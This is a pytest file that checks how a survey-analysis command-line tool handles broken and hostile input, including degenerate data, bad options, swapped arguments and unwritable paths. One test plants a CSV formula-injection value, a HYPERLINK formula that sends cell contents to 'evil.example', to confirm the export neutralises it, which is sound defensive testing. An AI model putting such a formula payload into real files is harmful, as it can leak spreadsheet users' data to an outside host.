"""Audit of issue 15 (hostile and broken input): the cases no other test covered.

Each test reproduces one case of the issue at the command line (``cli.main``) on a
small generated survey (2 constructs x 3 items, 120 respondents) or the CDNOW
sample, and checks the exit code and the one-line message.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from satisfaction.cli import main

CDNOW = Path(__file__).parent / "data" / "cdnow_sample.csv"

QUESTIONNAIRE = textwrap.dedent("""\
    id: audit
    title: {en: Audit, zh: 审计}
    respondent_id: rid
    scales:
      five: {min: 1, max: 5}
    screening:
      straightlining: false
    constructs:
      - id: A
        name: {en: A, zh: 甲}
        items:
          - {id: a1, scale: five, text: {en: a1, zh: a1}}
          - {id: a2, scale: five, text: {en: a2, zh: a2}}
          - {id: a3, scale: five, text: {en: a3, zh: a3}}
      - id: B
        name: {en: B, zh: 乙}
        role: satisfaction
        items:
          - {id: b1, scale: five, text: {en: b1, zh: b1}}
          - {id: b2, scale: five, text: {en: b2, zh: b2}}
          - {id: b3, scale: five, text: {en: b3, zh: b3}}
    paths:
      - B ~ A
    """)
ITEMS = ["a1", "a2", "a3", "b1", "b2", "b3"]


def _survey(n: int = 120) -> pd.DataFrame:
    rng = np.random.default_rng(1)
    fa = rng.normal(size=n)
    fb = 0.6 * fa + 0.8 * rng.normal(size=n)

    def item(f: np.ndarray) -> np.ndarray:
        return np.clip(np.round(3 + f + 0.7 * rng.normal(size=n)), 1, 5).astype(int)

    frame = pd.DataFrame({"rid": [f"R{i:03d}" for i in range(n)]})
    for c in ITEMS:
        frame[c] = item(fa if c.startswith("a") else fb)
    return frame


@pytest.fixture
def files(tmp_path: Path) -> dict[str, Path]:
    q = tmp_path / "q.yaml"
    q.write_text(QUESTIONNAIRE, encoding="utf-8")
    data = tmp_path / "ok.csv"
    _survey().to_csv(data, index=False)
    return {"q": q, "data": data, "folder": tmp_path}


def _changed(kind: str) -> pd.DataFrame:
    frame = _survey()
    if kind == "constant":
        frame["a3"] = 3
    elif kind == "copy":
        frame["a3"] = frame["a2"]
    elif kind == "straight":  # every respondent gives one answer to every item
        for c in ITEMS:
            frame[c] = frame["a1"]
    return frame


# -- Tracebacks: constant, collinear or straight-lined data in fit and report ----------------

@pytest.mark.parametrize(("command", "kind", "words"), [
    ("fit", "constant", "same value for every respondent"),
    ("fit", "copy", "'a2' and 'a3' are perfectly correlated"),
    ("fit", "straight", "'a1' and 'a2' are perfectly correlated"),
    ("report", "constant", "same value for every respondent"),
    ("report", "copy", "'a2' and 'a3' are perfectly correlated"),
])
def test_degenerate_items_in_fit_and_report_are_a_message(command, kind, words, files, capsys):
    data = files["folder"] / f"{kind}.csv"
    _changed(kind).to_csv(data, index=False)
    extra = ["--out", str(files["folder"] / "r.pdf"), "--bootstrap", "0",
             "--no-progress"] if command == "report" else []
    assert main([command, str(files["q"]), str(data), *extra]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("error: ") and "Traceback" not in err, err
    assert words in err and "column 'a" in err, err
    assert not (files["folder"] / "r.pdf").exists()


# -- Tracebacks: output paths; the message names the option as typed (--json) ----------------

@pytest.mark.parametrize("command", ["validate", "reliability", "efa", "fit", "compare",
                                     "invariance", "rfm", "clv"])
def test_an_unwritable_json_names_the_option_as_typed(command, files, capsys):
    if command in ("rfm", "clv"):
        argv = [command, str(CDNOW)]
    else:
        argv = [command, str(files["q"]), str(files["data"])]
    if command == "invariance":
        argv += ["--group", "a1"]
    # a folder where the file goes: refused before any work
    assert main([*argv, "--json", str(files["folder"])]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("error: option '--json': cannot write"), err
    assert "json-path" not in err and "it is a folder" in err


# -- Messages: options checked before any data are read, naming the option --------------------

@pytest.mark.parametrize(("args", "option"), [
    (["fit", "Q", "D", "--estimator", "mlx"], "--estimator"),
    (["fit", "Q", "D", "--jobs", "0"], "--jobs"),
    (["fit", "Q", "D", "--jobs", "-2", "--bootstrap", "10"], "--jobs"),
    (["invariance", "Q", "D", "--group", "a1", "--missing", "pairwise"], "--missing"),
])
def test_fit_and_invariance_options_before_the_data(args, option, files, monkeypatch, capsys):
    def no_data(*a, **k):
        raise AssertionError("the data were read before the options were checked")

    for name in ("satisfaction.responses.load_responses", "satisfaction.responses.read_table"):
        monkeypatch.setattr(name, no_data)
    argv = [str(files["q"]) if a == "Q" else str(files["data"]) if a == "D" else a
            for a in args]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert f"option '{option}'" in err and "read before" not in err, err
    assert "ok.csv" not in err


def test_pls_estimator_still_accepted(files, capsys):
    assert main(["fit", str(files["q"]), str(files["data"]), "--estimator", "PLS"]) == 0


# -- Messages: swapped arguments for the questionnaire commands --------------------------------

@pytest.mark.parametrize("command", ["validate", "reliability", "efa", "compare", "report"])
def test_swapped_questionnaire_and_data_are_named(command, files, capsys):
    assert main([command, str(files["data"]), str(files["q"])]) == 2
    err = capsys.readouterr().err.strip()
    assert err == (f"error: {files['data']}: this is a data file, not a questionnaire: the "
                   "command takes the questionnaire (YAML) first, then the responses")


# -- Silently wrong: CLV without a spend model is not "total 0.00" ------------------------------

def test_clv_without_the_spend_model_says_not_computed(capsys):
    assert main(["clv", str(CDNOW), "--models", "bgnbd"]) == 0
    out = capsys.readouterr().out
    assert "not computed (it needs the spend model gamma_gamma" in out
    assert "total 0.00" not in out


# -- Injection: fit --scores keeps formula-like respondent ids as text ------------------------

def test_fit_scores_prefix_formula_ids(files):
    frame = _survey()
    frame.loc[0, "rid"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    frame.loc[1, "rid"] = "@SUM(1+1)"
    data = files["folder"] / "inj.csv"
    frame.to_csv(data, index=False)
    out = files["folder"] / "scores.csv"
    assert main(["fit", str(files["q"]), str(data), "--scores", str(out)]) == 0
    ids = list(pd.read_csv(out, dtype=str, keep_default_na=False)["rid"])
    assert "'" + frame.loc[0, "rid"] in ids and "'@SUM(1+1)" in ids
    assert not any(i[:1] in "=+@" for i in ids)


# -- Models: a non-recursive pair is marked not admissible (exit 0, stated) -------------------

def test_non_recursive_pair_is_marked_not_admissible(files, capsys):
    model = files["folder"] / "loop.lav"
    model.write_text("A =~ a1 + a2 + a3\nB =~ b1 + b2 + b3\nB ~ A\nA ~ B\n")
    assert main(["fit", str(model), str(files["data"])]) == 0
    out = capsys.readouterr().out
    assert "This solution is not admissible" in out


def test_a_bad_engine_names_the_option_once(capsys):
    assert main(["rfm", str(CDNOW), "--engine", "pandas"]) == 2
    err = capsys.readouterr().err.strip()
    assert err == "error: option '--engine': expected duckdb or spark (value: 'pandas')"
